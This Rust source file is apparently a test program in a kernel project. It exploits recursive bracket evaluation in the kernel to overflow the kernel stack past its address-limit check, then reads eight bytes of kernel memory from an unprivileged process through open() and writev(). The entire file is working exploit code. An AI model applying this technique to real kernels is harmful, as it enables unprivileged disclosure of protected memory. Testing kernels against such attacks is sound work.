//! An unprivileged program that wants to read kernel memory: `attack ADDRESS`.
//!
//! A kernel file evaluates nested brackets by recursion. Child after child nests them a little deeper around a number that allows
//! everything (round brackets take much of the stack, square ones little), and then asks the kernel to open a file whose name lies
//! at ADDRESS, which is the kernel's. "Bad address" means that the kernel looked where it may look; anything else, that the last
//! frame has ended on the address limit. That child has the kernel write eight bytes from ADDRESS to its standard output:
//! `fact attack.read WORD`.
//!
//! Prints `fact attack.end CHILD STATUS` for the child that got somewhere, with its status word: 0 if it read the kernel's
//! memory, 11 if the kernel killed it on its way down. Exit status 1: no child got anywhere.

use std::ffi::{c_char, c_void};
use std::fs;
use std::io;
use std::process::ExitCode;

use vmstack_programs::{NEST, spawn, wait};

/// More than a stack can hold, less than the file takes at once.
const DEEPEST: usize = 200;
/// As many square brackets take as much as a round one.
const SQUARES: usize = 7;
/// A child that went not deep enough.
const NOT_YET: i32 = 7;

fn main() -> ExitCode {
    let address =
        std::env::args().nth(1).and_then(|word| usize::from_str_radix(word.trim_start_matches("0x"), 16).ok());
    let Some(address) = address else {
        eprintln!("attack: which address? attack 0xffffffff80200000");
        return ExitCode::from(2);
    };
    match search(address) {
        Ok(true) => ExitCode::SUCCESS,
        Ok(false) => ExitCode::FAILURE,
        Err(error) => {
            eprintln!("attack: {error}");
            ExitCode::FAILURE
        }
    }
}

fn search(address: usize) -> io::Result<bool> {
    for step in SQUARES..DEEPEST * SQUARES {
        let ended = wait(spawn(|| attempt(step / SQUARES, step % SQUARES, address))?)?;
        if ended.status != NOT_YET << 8 {
            println!("fact attack.end {step} {}", ended.status);
            return Ok(true);
        }
    }
    Ok(false)
}

/// One child. The round brackets are inside, so that the last frame is one that is full of the number.
fn attempt(round: usize, square: usize, address: usize) -> i32 {
    if fs::write(NEST, "[".repeat(square) + &"(".repeat(round) + "ffffffffffffffff").is_err() {
        return 1;
    }
    if !may_name(address) {
        return NOT_YET;
    }
    let pieces = [bytes(b"fact attack.read "), piece(address, 8), bytes(b"\n")];
    // SAFETY: the first and the last piece are static; the kernel checks the one between, or it does not.
    let written = unsafe { libc::writev(1, pieces.as_ptr(), 3) };
    i32::from(written != 26)
}

/// Whether the kernel would read a file's name at `address`.
fn may_name(address: usize) -> bool {
    let name: *const c_char = core::ptr::without_provenance(address);
    // SAFETY: the kernel reads the name, not this program; it refuses what is not ours, or it does not.
    let opened = unsafe { libc::open(name, libc::O_RDONLY) };
    opened >= 0 || io::Error::last_os_error().raw_os_error() != Some(libc::EFAULT)
}

fn piece(address: usize, length: usize) -> libc::iovec {
    let start: *mut c_void = core::ptr::without_provenance_mut(address);
    libc::iovec { iov_base: start, iov_len: length }
}

fn bytes(text: &'static [u8]) -> libc::iovec {
    libc::iovec { iov_base: text.as_ptr().cast_mut().cast(), iov_len: text.len() }
}
